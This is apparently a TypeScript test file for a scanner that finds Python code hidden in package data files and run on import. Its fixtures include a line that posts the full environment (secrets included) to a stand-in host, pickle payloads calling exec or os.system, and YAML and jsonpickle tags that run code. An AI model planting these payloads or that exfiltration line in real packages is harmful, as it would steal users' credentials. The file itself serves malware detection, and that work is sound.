import { deflateSync, gzipSync } from 'node:zlib'
import t from 'tap'
import { buildCodeIndex } from '../../src/inspection/code-index.ts'
import { seenFlows } from '../../src/checks/seen-flows.ts'
import { mayHarm } from '../../src/analysis/python/carried/worth.ts'
import { carriedProgram } from '../../src/analysis/python/carried/program.ts'
import { pickleProgram } from '../../src/analysis/python/carried/pickle.ts'
import type { ArchiveReading } from '../../src/archive/reading.ts'
import { readingOf } from './python-reading.ts'

const SEND =
  'import json, os, urllib.request\nurllib.request.urlopen("https://c.invalid", data=json.dumps(dict(os.environ)).encode())\n'
const HERE = 'import os, sys\nP = os.path.join(os.path.dirname(__file__), "x")\n'

/** A zip with one stored member. */
function zipOf(name: string, content: Buffer): Buffer {
  const head = Buffer.alloc(26)
  head.writeUInt32LE(content.length, 14)
  head.writeUInt32LE(content.length, 18)
  head.writeUInt16LE(name.length, 22)
  const local = Buffer.concat([Buffer.from('PK\u0003\u0004'), head, Buffer.from(name), content])
  const record = Buffer.alloc(46)
  record.write('PK\u0001\u0002', 'latin1')
  record.writeUInt32LE(content.length, 20)
  record.writeUInt32LE(content.length, 24)
  record.writeUInt16LE(name.length, 28)
  const end = Buffer.alloc(22)
  end.write('PK\u0005\u0006', 'latin1')
  end.writeUInt32LE(46 + name.length, 12)
  end.writeUInt32LE(local.length, 16)
  return Buffer.concat([local, record, Buffer.from(name), end])
}

/** Protocol 4: `builtins.exec` of a text. */
function pickleOf(code: string): Buffer {
  const text = Buffer.from(code)
  const size = Buffer.alloc(4)
  size.writeUInt32LE(text.length)
  const start = Buffer.from('\x80\x04\x95\0\0\0\0\0\0\0\0\x8c\x08builtins\x94\x8c\x04exec\x94\x93\x94X', 'latin1')
  return Buffer.concat([start, size, text, Buffer.from('\x94\x85\x94R\x94.', 'latin1')])
}

function packageOf(init: string, file: string, content: Buffer): ArchiveReading {
  const plain = readingOf('wheel', { 'a/__init__.py': HERE + init, [`a/${file}`]: '' })
  const entries = plain.entries.map((entry) =>
    entry.path === `a/${file}` ? { ...entry, content, sizeBytes: content.length } : entry,
  )
  return { ...plain, entries }
}

/** Moments of what sends the environment away, in any file. */
function flowsOf(reading: ArchiveReading): readonly string[] {
  return seenFlows(buildCodeIndex(reading, 'pypi'))
    .filter(({ flow, live }) => live && flow.source.kind === 'env' && flow.sink.kind === 'network')
    .map(({ moment }) => moment)
}

const text = Buffer.from(SEND)
const PICKLED = 'import pickle\npickle.load(open(P, "rb"))\n'

const RUN: readonly [situation: string, init: string, file: string, content: Buffer][] = [
  [
    'a loader that is given a path',
    'from importlib.machinery import SourceFileLoader\nSourceFileLoader("x", P).load_module()\n',
    'x',
    text,
  ],
  [
    'every file that a pattern finds',
    'import glob\nfor p in glob.glob(P + "*"):\n    exec(open(p).read())\n',
    'x.cache',
    text,
  ],
  ['every file of the folder', 'for p in os.listdir(sys.path[0]):\n    exec(open(p).read())\n', 'x.cache', text],
  ['a path of pathlib', 'from pathlib import Path\nexec(Path(__file__).with_name("x").read_text())\n', 'x', text],
  [
    'a resource',
    'from importlib import resources\nexec(resources.files(__name__).joinpath("x").read_text())\n',
    'x',
    text,
  ],
  ['what its loader reads', 'exec(__loader__.get_data(P))\n', 'x', text],
  [
    'a finder of its own',
    'import importlib.abc\nclass F(importlib.abc.Loader):\n    def exec_module(self, m):\n        self.run(m)\nsys.meta_path.append(F())\n',
    'x',
    text,
  ],
  ['a module in an archive', 'import zipimport\nzipimport.zipimporter(P).load_module("m")\n', 'x', zipOf('m.py', text)],
  ['a compressed text', 'import gzip\nexec(gzip.GzipFile(P).read())\n', 'x', gzipSync(text)],
  ['a deflated text', 'import zlib\nexec(zlib.decompress(open(P, "rb").read()))\n', 'x', deflateSync(text)],
  ['a pickle', PICKLED, 'x', pickleOf(SEND)],
  ['a pickle in a model', 'import torch\ntorch.load(P)\n', 'x.pt', zipOf('m/data.pkl', pickleOf(SEND))],
  ['a model that is named like a start-up file', 'import torch\ntorch.load(P)\n', 'x.pth', pickleOf(SEND)],
  [
    'a table of objects',
    'import numpy\nnumpy.load(P, allow_pickle=True)\n',
    'x.npy',
    Buffer.concat([Buffer.from('\x93NUMPY\x01\x00v\x00{}\n', 'latin1'), pickleOf(SEND)]),
  ],
  [
    'a tag of YAML',
    'import yaml\nyaml.unsafe_load(open(P))\n',
    'x.yaml',
    Buffer.from(`!!python/object/apply:builtins.exec [${JSON.stringify(SEND)}]\n`),
  ],
  [
    'a tag of jsonpickle',
    'import jsonpickle\njsonpickle.decode(open(P).read())\n',
    'x.json',
    Buffer.from(JSON.stringify({ 'py/reduce': [{ 'py/function': 'builtins.exec' }, { 'py/tuple': [SEND] }] })),
  ],
]

const LEFT: readonly [situation: string, init: string, file: string, content: Buffer][] = [
  ['nobody runs files', 'TEXT = open(P).read()\n', 'x', text],
  [
    'it is a text about code',
    'exec("a = 1")\n',
    'x.md',
    Buffer.from(`# How to send\n\n    ${SEND.replace('\n', '\n    ')}\nThat is all, is it not?\n`),
  ],
  ['the pickle calls nothing', PICKLED, 'x', Buffer.from('\x80\x04]\x94(K\x01K\x02e.', 'latin1')],
  ['the pickle makes what is harmless', PICKLED, 'x', Buffer.from('ccollections\nOrderedDict\n(tR.', 'latin1')],
]

t.test('what a file of data holds is read where something runs such files', async (t) => {
  for (const [situation, init, file, content] of RUN)
    t.same(flowsOf(packageOf(init, file, content)), ['import'], situation)
  for (const [situation, init, file, content] of LEFT) t.same(flowsOf(packageOf(init, file, content)), [], situation)
})

t.test('the calls of a pickle', async (t) => {
  for (const [pickle, program] of [
    ["cos\nsystem\n(S'id'\ntR.", 'import os\nos.system("id",)'],
    ['cos\nsystem\n(Vid\\u000a\ntR.', 'import os\nos.system("id\\n",)'],
    ["(S'id'\nios\nsystem\n.", undefined],
    ['\x80\x02cposix\nsystem\nq\0X\x02\0\0\0idq\x01\x85q\x02R.', 'import posix\nposix.system("id",)'],
    ['\x80\x02(cos\nsystem\nX\x02\0\0\0ido.', 'import os\nos.system("id",)'],
    ['\x80\x04\x8c\x02os\x94\x8c\x06system\x9400h\0h\x01\x93\x8c\x02id\x85R.', 'import os\nos.system("id",)'],
    [
      '\x80\x02c__builtin__\ngetattr\nc__builtin__\n__import__\nU\x02os\x85RU\x06system\x86RU\x02id\x85R.',
      '__import__("os",)\ngetattr(__import__("os",), "system",)\ngetattr(__import__("os",), "system",)("id",)',
    ],
    ['\x80\x02]q\0.', undefined],
    ['\x80\x02\xff', undefined],
    ['\x80\x02X\xff\xff\xff\xff', undefined],
  ] as const)
    t.equal(pickleProgram(Buffer.from(pickle, 'latin1'))?.trimEnd(), program, JSON.stringify(pickle))
})

const padded = (size: number) => Buffer.from(SEND.padEnd(size, '#'))

t.test('how much is looked into', async (t) => {
  t.equal(carriedProgram(padded(3_000_000))?.program.length, 3_000_000)
  t.equal(carriedProgram(padded(3_000_001)), undefined)
  t.equal(carriedProgram(zipOf('m.py', padded(300_000)))?.program.length, 300_000)
  t.equal(carriedProgram(zipOf('m.py', padded(300_001))), undefined)
  t.equal(carriedProgram(gzipSync(padded(1_000_000)))?.program.length, 1_000_000)
  t.equal(carriedProgram(gzipSync(padded(1_000_001))), undefined)
  t.equal(carriedProgram(zipOf('m.py', text).subarray(0, 60)), undefined, 'a zip without an end')
})

t.test('a tool that writes where it stands is none that data carries to do harm', async (t) => {
  t.notOk(mayHarm('import os\nopen(os.path.join(os.getcwd(), name), "w").write(text)\n', false))
  t.ok(mayHarm(SEND, false))
})
